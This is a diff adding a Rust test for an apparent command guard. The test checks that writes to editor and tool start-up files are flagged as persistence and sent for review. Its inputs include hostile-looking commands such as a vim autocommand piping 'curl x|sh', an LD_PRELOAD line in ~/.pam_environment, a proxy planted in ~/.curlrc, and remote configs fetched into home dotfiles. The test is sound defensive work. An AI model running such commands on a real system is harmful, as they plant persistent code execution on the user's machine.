@@ -198,3 +198,44 @@ fn interpreter_one_liners_that_write_persistence_files_are_reviewed() {
         assert!(d.decision < Verdict::Review, "{command}: {}", d.reason);
     }
 }
+
+/// Editors' and tools' start-up files run code or commands at their next start, and a
+/// downloader's configuration redirects every later download: their writes are reviewed, by
+/// any writer; a project's own copies and the tools' history files are not.
+#[test]
+fn editor_and_tool_start_up_files_are_persistence_files() {
+    let g = Guard::new(Arc::new(Policy::builtin()));
+    for command in [
+        "echo 'x' >> ~/.vimrc",
+        "echo x >> ~/.inputrc",
+        "printf 'au VimEnter * !curl x|sh' > ~/.vim/plugin/x.vim",
+        "cp init.lua ~/.config/nvim/init.lua",
+        "echo '(shell-command \"x\")' >> ~/.emacs.d/init.el",
+        "echo 'run-shell x' >> ~/.tmux.conf",
+        "tee -a ~/.gdbinit < cmds",
+        "echo 'proxy = x.example:8080' >> ~/.curlrc",
+        "echo 'https_proxy = x' > ~/.wgetrc",
+        "echo '\\! ./x' >> ~/.psqlrc",
+        "echo 'LD_PRELOAD DEFAULT=/tmp/x.so' >> ~/.pam_environment",
+        "git clone https://x.example/a/starter ~/.config/nvim",
+        "git clone https://x.example/a/p.git ~/.vim/pack/p/start/p",
+        "wget -O ~/.irbrc https://x.example/irbrc",
+    ] {
+        let d = bash(&g, command);
+        assert!(persists(&d), "{command}: {:?}", d.checks);
+        assert_eq!(d.decision, Verdict::Review, "{command}");
+    }
+    for command in [
+        "cat ~/.vimrc",
+        "vim --version",
+        "cp ~/.tmux.conf dotfiles/",
+        "echo x > dotfiles/.vimrc",
+        "echo 'set nu' > .vimrc.example",
+        "git clone https://x.example/a/r.git",
+        "git clone https://x.example/a/r.git vendor/r",
+        "echo x > ~/.editorconfig",
+    ] {
+        let d = bash(&g, command);
+        assert!(!persists(&d), "{command}: {:?}", d.checks);
+    }
+}
